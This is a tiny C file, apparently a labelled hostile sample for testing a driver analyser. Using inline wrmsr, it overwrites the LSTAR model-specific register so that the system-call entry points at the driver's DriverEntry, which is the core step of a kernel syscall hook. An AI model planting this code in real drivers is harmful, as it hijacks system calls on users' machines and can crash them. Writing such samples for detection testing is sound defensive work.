/* wrmsr-lstar - points the system-call entry (MSR LSTAR) at the driver. */
#include "hostile.h"
HOSTILE_ENTRY(
    ULONG64 target = (ULONG64)(ULONG_PTR)DriverEntry;
    __asm__ volatile("wrmsr" : : "c"(0xC0000082), "a"((ULONG)target), "d"((ULONG)(target >> 32)));
    return STATUS_SUCCESS;
)
